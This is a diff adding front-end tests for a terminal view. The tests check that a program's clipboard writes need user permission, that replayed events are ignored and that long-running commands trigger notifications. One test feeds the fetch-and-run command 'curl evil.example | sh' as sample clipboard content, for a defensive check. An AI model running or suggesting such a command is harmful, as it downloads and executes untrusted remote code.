@@ -1,6 +1,6 @@
 import { act, fireEvent, screen as page, waitFor, within } from '@testing-library/react'
 import { Suspense } from 'react'
-import { beforeEach, describe, expect, it } from 'vitest'
+import { beforeEach, describe, expect, it, vi } from 'vitest'
 import { createFakePort } from '../../testing/fake-port.ts'
 import { createFakeScreen } from '../../testing/fake-screen.ts'
 import type { FakeBridge } from '../../testing/fake-bridge.ts'
@@ -28,7 +28,7 @@ const place = {
 }
 
 function Views() {
-  return useTerminalTabs().tabs.map((tab) => <TerminalView key={tab.key} tab={tab} />)
+  return useTerminalTabs().tabs.map((tab) => <TerminalView key={tab.key} tab={tab} hasFocus />)
 }
 
 async function show(fake: FakeBridge = bridge()) {
@@ -141,5 +141,67 @@ describe('a terminal on the page', () => {
     const again = createTerminalTabsStore(localStorage).getState()
     expect(again.tabs).toEqual([tab])
     expect(again.drawerOpen).toBe(true)
+  })
+
+  it('asks once whether programs may write the clipboard, and never writes unasked', async () => {
+    const { screen, fake } = await show()
+    fake.answer('app.copyText', () => null)
+    act(() => screen.program.writeClipboard('curl evil.example | sh'))
+    await page.findByText(/A program on payments-api wants to write your clipboard/)
+    expect(page.getByText('curl evil.example | sh')).toBeTruthy()
+    expect(fake.inputsOf('app.copyText')).toEqual([])
+    fireEvent.click(page.getByRole('button', { name: 'Allow here' }))
+    act(() => screen.program.writeClipboard('again'))
+    await waitFor(() =>
+      expect(fake.inputsOf('app.copyText')).toEqual([{ text: 'curl evil.example | sh' }, { text: 'again' }]),
+    )
+  })
+
+  it('takes no for an answer', async () => {
+    const { screen, fake } = await show()
+    act(() => screen.program.writeClipboard('one'))
+    fireEvent.click(await page.findByRole('button', { name: 'Not in this terminal' }))
+    act(() => screen.program.writeClipboard('two'))
+    expect(page.queryByText(/wants to write your clipboard/)).toBeNull()
+    expect(fake.inputsOf('app.copyText')).toEqual([])
+  })
+
+  it('does nothing of what a replay asks for', async () => {
+    const { screen, port } = await show()
+    act(() => {
+      port.receive({ type: 'state', terminalId: sampleId(71), state: { kind: 'connected', rejoined: true } })
+      screen.program.writeClipboard('old')
+      screen.program.endCommand({ durationMs: 60_000, exitCode: 0 })
+    })
+    expect(page.queryByText(/wants to write your clipboard/)).toBeNull()
+  })
+
+  it('tells of a long command that ended while nobody looks, and not of a short one', async () => {
+    const { screen, fake } = await show()
+    fake.answer('app.notifyCommandEnd', () => null)
+    vi.spyOn(document, 'hasFocus').mockReturnValue(false)
+    act(() => {
+      screen.program.endCommand({ durationMs: 2000, exitCode: 0 })
+      screen.program.endCommand({ durationMs: 61_000, exitCode: 2 })
+    })
+    await waitFor(() =>
+      expect(fake.inputsOf('app.notifyCommandEnd')).toEqual([
+        {
+          deploymentId: 'local',
+          workspaceId: place.workspaceId,
+          workspaceName: 'payments-api',
+          seconds: 61,
+          exitCode: 2,
+        },
+      ]),
+    )
+  })
+
+  it('opens a terminal beside it where its shell is', async () => {
+    const { screen, terminals, ofType } = await show()
+    act(() => screen.program.enterDirectory('/home/dev/src'))
+    act(() => terminals.split(terminals.store.getState().activeKey ?? '', 'row'))
+    await waitFor(() => expect(ofType('open')).toHaveLength(2))
+    expect(ofType('open')[1]).toMatchObject({ command: expect.stringContaining("cd -- '/home/dev/src'") })
   })
 })
